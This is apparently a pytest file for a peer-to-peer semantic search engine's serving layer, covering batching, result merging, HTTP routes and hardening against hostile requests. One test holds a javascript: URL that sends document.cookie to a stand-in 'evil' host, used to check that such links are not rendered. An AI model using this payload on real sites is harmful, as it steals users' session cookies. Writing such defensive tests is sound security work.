"""Serving layer: batcher coalescing, orchestrator semantics, HTTP routes."""

import hashlib
import json
import threading
import time
import urllib.error
import urllib.request

import numpy as np
import pytest

from dawnsearch_tpu.index.provider import FoundPage, SearchProvider
from dawnsearch_tpu.serving.batcher import EmbeddingBatcher
from dawnsearch_tpu.serving.http_service import start_http_service
from dawnsearch_tpu.serving.search_service import SearchService


def fake_embed(text: str) -> np.ndarray:
    seed = int.from_bytes(hashlib.md5(text.encode()).digest()[:4], "little")
    v = np.random.default_rng(seed).standard_normal(384).astype(np.float32)
    return v / np.linalg.norm(v)


class FakeEncoder:
    def __init__(self):
        self.calls = []

    def __call__(self, texts):
        self.calls.append(len(texts))
        return np.stack([fake_embed(t) for t in texts])


@pytest.fixture
def batcher():
    b = EmbeddingBatcher(FakeEncoder(), max_batch=8, max_wait_ms=20.0)
    yield b
    b.stop()


@pytest.fixture
def service(batcher):
    provider = SearchProvider(data_dir=None, verify_on_load=False)
    svc = SearchService(provider, batcher, instance_id="local-node", k=20)
    yield svc


def seed_pages(svc, n=20):
    pages = [(f"https://example.com/{i}", f"Title {i}", f"body text {i}")
             for i in range(n)]
    return svc.insert_pages(pages)


# -- batcher ----------------------------------------------------------------


def test_batcher_coalesces():
    enc = FakeEncoder()
    b = EmbeddingBatcher(enc, max_batch=16, max_wait_ms=50.0)
    try:
        futs = [b.embed_async(f"text {i}") for i in range(10)]
        vecs = [f.result(timeout=5) for f in futs]
        for i, v in enumerate(vecs):
            np.testing.assert_allclose(v, fake_embed(f"text {i}"))
        # 10 requests submitted before the flush deadline -> few forwards
        assert sum(enc.calls) == 10 and len(enc.calls) <= 3
    finally:
        b.stop()


def test_batcher_propagates_errors():
    def boom(texts):
        raise ValueError("no model")
    b = EmbeddingBatcher(boom, max_batch=4, max_wait_ms=5.0)
    try:
        with pytest.raises(ValueError):
            b.embed("x", timeout=5)
    finally:
        b.stop()


# -- search service -----------------------------------------------------------


def test_text_search_roundtrip(service):
    seed_pages(service)
    res = service.text_search("Title 3\nbody text 3")
    assert res.pages
    assert res.pages[0].url == "https://example.com/3"
    assert res.instances_contacted == 1
    assert res.pages_searched == 20
    assert res.pages[0].instance_id == "local-node"


def test_more_like_local(service):
    ids = seed_pages(service)
    res = service.more_like_search("local-node", ids[5])
    assert res is not None
    assert res.pages[0].page_id == ids[5]  # itself first (distance 0)
    assert service.more_like_search("local-node", 99999) is None


class FakeRemote:
    def __init__(self):
        self.limits = []
        self.replicated = []
        self.remote_emb = fake_embed("remote page")

    def search(self, embedding, distance_limit, k):
        self.limits.append(distance_limit)
        pages = [FoundPage(page_id=1, distance=0.0001, url="https://peer/1",
                           title="Remote hit", text="", instance_id="peer-a")]
        return pages, 1000, 2

    def replicate(self, url, title, text):
        self.replicated.append(url)

    def fetch_embedding(self, instance_id, page_id):
        return self.remote_emb if instance_id == "peer-a" else None


def test_remote_merge(service):
    remote = FakeRemote()
    service.remote = remote
    seed_pages(service)
    res = service.text_search("anything at all")
    # remote hit has distance 0.0001 -> must rank first
    assert res.pages[0].instance_id == "peer-a"
    assert res.instances_contacted == 3
    assert res.pages_searched == 1020
    # k=20 local hits fill the set -> a distance_limit was sent
    assert remote.limits[0] is not None
    # local hits must survive the merge after the remote one
    assert any(p.instance_id == "local-node" for p in res.pages[1:])


def test_remote_more_like(service):
    service.remote = FakeRemote()
    seed_pages(service)
    res = service.more_like_search("peer-a", 1)
    assert res is not None
    assert service.more_like_search("peer-unknown", 1) is None


def test_insert_replicates_only_local(service):
    remote = FakeRemote()
    service.remote = remote
    service.insert_pages([("https://a/1", "t", "x")], from_network=False)
    service.insert_pages([("https://a/2", "t", "x")], from_network=True)
    assert remote.replicated == ["https://a/1"]
    # duplicate URL skipped, not replicated again
    service.insert_pages([("https://a/1", "t", "x")])
    assert remote.replicated == ["https://a/1"]


# -- HTTP ---------------------------------------------------------------------


@pytest.fixture
def http(service):
    server, thread = start_http_service(service, "127.0.0.1:0")
    port = server.server_address[1]
    base = f"http://127.0.0.1:{port}"
    yield base, service
    server.shutdown()


def get(url: str):
    with urllib.request.urlopen(url, timeout=10) as r:
        return r.status, r.read().decode()


def test_http_routes(http):
    base, service = http
    seed_pages(service)

    status, body = get(base + "/")
    assert status == 200 and "DawnSearch" in body

    status, body = get(base + "/robots.txt")
    assert status == 200 and "Disallow" in body

    status, body = get(base + "/?q=Title+7%0Abody+text+7")
    assert status == 200
    assert "example.com/7" in body and "Searched 20 pages" in body

    status, body = get(base + "/api/search?q=Title+7%0Abody+text+7")
    data = json.loads(body)
    assert data["results"][0]["url"] == "https://example.com/7"

    status, body = get(base + "/api/stats")
    assert json.loads(body)["pages_indexed"] == 20

    # explore link from HTML page
    status, body = get(base + "/?s=local-node:1")
    assert status == 200 and "similar to" in body


def test_http_errors(http):
    base, _ = http
    with pytest.raises(urllib.error.HTTPError) as e:
        get(base + "/nope")
    assert e.value.code == 404
    with pytest.raises(urllib.error.HTTPError) as e:
        get(base + "/?s=garbage")
    assert e.value.code == 400
    with pytest.raises(urllib.error.HTTPError) as e:
        get(base + "/api/search")
    assert e.value.code == 400


def test_http_insert(http):
    base, service = http
    req = urllib.request.Request(
        base + "/api/insert",
        data=json.dumps({"pages": [
            {"url": "https://x/1", "title": "One", "text": "alpha"},
            {"url": "https://x/1", "title": "Dup", "text": "beta"},
        ]}).encode(),
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as r:
        data = json.loads(r.read())
    assert len(data["inserted"]) == 1 and data["skipped"] == 1
    status, body = get(base + "/api/search?q=alpha")
    assert json.loads(body)["results"][0]["url"] == "https://x/1"


def test_http_concurrent_searches_batch(http):
    """Concurrent HTTP searches coalesce in the embedding batcher."""
    base, service = http
    seed_pages(service)
    enc = service.batcher._encode
    enc.calls.clear()
    results = []

    def worker(i):
        results.append(get(base + f"/api/search?q=Title+{i}")[0])

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert results == [200] * 8
    assert sum(enc.calls) == 8 and len(enc.calls) < 8  # coalesced


def test_http_metrics(http):
    base, service = http
    from dawnsearch_tpu.utils.logging import METRICS
    before = METRICS.snapshot()
    seed_pages(service)
    get(base + "/api/search?q=anything")
    status, body = get(base + "/api/metrics")
    m = json.loads(body)
    assert m.get("searches", 0) >= before.get("searches", 0) + 1
    assert m.get("pages_inserted", 0) == before.get("pages_inserted", 0) + 20


def test_http_save_endpoint(http, tmp_path):
    base, service = http
    seed_pages(service, 3)
    req = urllib.request.Request(base + "/api/save", data=b"", method="POST")
    with urllib.request.urlopen(req, timeout=10) as r:
        assert json.loads(r.read())["saved"] is True


def test_http_profile_endpoint(http, tmp_path):
    base, _ = http
    # caller-supplied dir is IGNORED (remote path traversal hardening):
    # traces land under the node's data_dir (or /tmp for :memory: nodes)
    status, body = get(base + f"/api/profile?seconds=0.1&dir={tmp_path}/evil")
    data = json.loads(body)
    if "trace_dir" in data:
        assert str(tmp_path) not in data["trace_dir"]
        assert data["trace_dir"].endswith("/profile")
    else:
        assert "error" in data


def post(url: str, data: bytes, headers=None):
    req = urllib.request.Request(url, data=data,
                                 headers=headers or {}, method="POST")
    with urllib.request.urlopen(req, timeout=10) as r:
        return r.status, json.loads(r.read())


def test_http_write_surfaces_gated_for_remote_callers(http):
    """/api/insert requires accept_insert for non-loopback callers (the
    UDP tier's gate, udp_service.rs:376-394); /api/save is loopback-only.
    Source faked via _is_local — every test socket is loopback."""
    base, _ = http
    import dawnsearch_tpu.serving.http_service as hs
    orig = hs._Handler._is_local
    hs._Handler._is_local = lambda self: False
    try:
        with pytest.raises(urllib.error.HTTPError) as e:
            post(base + "/api/insert",
                 json.dumps({"pages": [{"url": "https://r/1"}]}).encode())
        assert e.value.code == 403
        with pytest.raises(urllib.error.HTTPError) as e:
            post(base + "/api/save", b"")
        assert e.value.code == 403
        # reads stay open to remote callers
        status, _ = get(base + "/api/stats")
        assert status == 200
    finally:
        hs._Handler._is_local = orig


def test_http_remote_insert_allowed_with_accept_insert(service):
    server, thread = start_http_service(service, "127.0.0.1:0",
                                        accept_insert=True)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    import dawnsearch_tpu.serving.http_service as hs
    orig = hs._Handler._is_local
    hs._Handler._is_local = lambda self: False
    try:
        status, data = post(
            base + "/api/insert",
            json.dumps({"pages": [{"url": "https://r/2", "title": "t",
                                   "text": "x"}]}).encode())
        assert status == 200 and len(data["inserted"]) == 1
    finally:
        hs._Handler._is_local = orig
        server.shutdown()


def test_http_insert_hostile_bodies(http):
    base, _ = http
    # oversized declared body -> 413 before any read
    req = urllib.request.Request(
        base + "/api/insert", data=b"",
        headers={"Content-Length": str((16 << 20) + 1)}, method="POST")
    # urllib would block sending a body it doesn't have; do it raw
    import http.client as hc
    host, port = base[len("http://"):].split(":")
    conn = hc.HTTPConnection(host, int(port), timeout=10)
    conn.putrequest("POST", "/api/insert")
    conn.putheader("Content-Length", str((16 << 20) + 1))
    conn.endheaders()
    resp = conn.getresponse()
    assert resp.status == 413
    conn.close()

    # malformed JSON -> 400, not 500, and the server survives
    with pytest.raises(urllib.error.HTTPError) as e:
        post(base + "/api/insert", b"{not json")
    assert e.value.code == 400
    # pages entries missing "url" -> 400
    with pytest.raises(urllib.error.HTTPError) as e:
        post(base + "/api/insert",
             json.dumps({"pages": [{"title": "no url"}]}).encode())
    assert e.value.code == 400
    # non-dict pages entries -> 400
    with pytest.raises(urllib.error.HTTPError) as e:
        post(base + "/api/insert", json.dumps({"pages": [42]}).encode())
    assert e.value.code == 400
    # server still serves after the abuse
    status, _ = get(base + "/api/stats")
    assert status == 200


def test_http_early_errors_close_keepalive_connection(http):
    """Responses sent without consuming the POST body must carry
    Connection: close — otherwise the unread body bytes desync the
    next request on an HTTP/1.1 keep-alive connection."""
    import http.client as hc
    base, _ = http
    host, port = base[len("http://"):].split(":")

    # negative Content-Length is a malformed header -> 400, not 413
    conn = hc.HTTPConnection(host, int(port), timeout=10)
    conn.putrequest("POST", "/api/insert")
    conn.putheader("Content-Length", "-5")
    conn.endheaders()
    resp = conn.getresponse()
    assert resp.status == 400
    assert resp.getheader("Connection") == "close"
    conn.close()

    # oversized POST WITH the body on the wire: the 413 must close the
    # connection or the body bytes get parsed as the next request line
    conn = hc.HTTPConnection(host, int(port), timeout=10)
    body = b"x" * ((16 << 20) + 1)
    conn.putrequest("POST", "/api/insert")
    conn.putheader("Content-Length", str(len(body)))
    conn.endheaders()
    try:
        conn.send(body)
    except (BrokenPipeError, ConnectionResetError):
        pass  # server may close before the full body is accepted
    resp = conn.getresponse()
    assert resp.status == 413
    assert resp.getheader("Connection") == "close"
    conn.close()

    # unknown POST path with a body: same contract
    conn = hc.HTTPConnection(host, int(port), timeout=10)
    conn.request("POST", "/api/nope", body=b'{"pages": []}')
    resp = conn.getresponse()
    assert resp.status == 404
    assert resp.getheader("Connection") == "close"
    conn.close()

    status, _ = get(base + "/api/stats")
    assert status == 200


def test_result_links_refuse_javascript_urls():
    """Stored URLs are attacker-controlled (hostile peers replicate
    pages): only http(s) URLs render as links — a javascript: URL
    would execute in the search UI's origin on click (round-3 review;
    deliberate hardening departure from web.rs:325)."""
    from dawnsearch_tpu.index.provider import FoundPage, SearchResult
    from dawnsearch_tpu.serving import web

    evil = FoundPage(page_id=1, distance=0.1,
                     url="javascript:fetch('//evil/'+document.cookie)",
                     title="click me", text="x", instance_id="i")
    good = FoundPage(page_id=2, distance=0.2, url="https://ok.example/a",
                     title="fine", text="y", instance_id="i")
    html_out = web.format_results(
        SearchResult(pages=[evil, good], pages_searched=2), 0.01)
    assert 'href="javascript:' not in html_out
    assert 'href="https://ok.example/a"' in html_out
    assert "click me" in html_out  # still shown, just not linked


def test_batcher_shutdown_fails_queued_waiters_promptly():
    """Requests queued behind the shutdown sentinel get a prompt
    RuntimeError, not a hang until their future timeout (round-3
    review)."""
    import time as _time

    from dawnsearch_tpu.serving.batcher import CoalescingBatcher

    release = threading.Event()

    def slow(payloads):
        release.wait(10.0)
        return payloads

    b = CoalescingBatcher(slow, max_batch=1, max_wait_ms=1.0, name="t")
    first = b.submit("a")        # occupies the worker in slow()
    _time.sleep(0.2)
    queued = b.submit("b")       # sits in the queue
    stopper = threading.Thread(target=b.stop)
    stopper.start()
    release.set()
    stopper.join(timeout=10)
    t0 = _time.monotonic()
    with pytest.raises(RuntimeError, match="shut down"):
        queued.result(timeout=5.0)
    assert _time.monotonic() - t0 < 2.0  # failed promptly, no hang
    assert first.result(timeout=5.0) == "a"


def test_tracker_prunes_spoofed_peers():
    """Spoofed announces with random instance ids must not grow the
    tracker's peer map without bound (round-3 review; the reference
    only filters at reply time, dawntrack.rs:95)."""
    from dawnsearch_tpu.net.tracker import Tracker

    tr = Tracker("127.0.0.1:0", fresh_s=0.1)
    now = int(__import__("time").time())
    # simulate an old flood by backdating entries beyond 2*fresh_s
    from dawnsearch_tpu.net.packets import Announce, PeerInfo, encode
    for i in range(50):
        tr.peers[f"spoof{i}"] = PeerInfo(f"spoof{i}", "10.0.0.1:1", False,
                                         0, last_seen=now - 10)
    tr._handle(encode(Announce("real", True, 1), tr.wire),
               ("127.0.0.1", 4242))
    assert len(tr.peers) == 1 and "real" in tr.peers
    tr._sock.close()
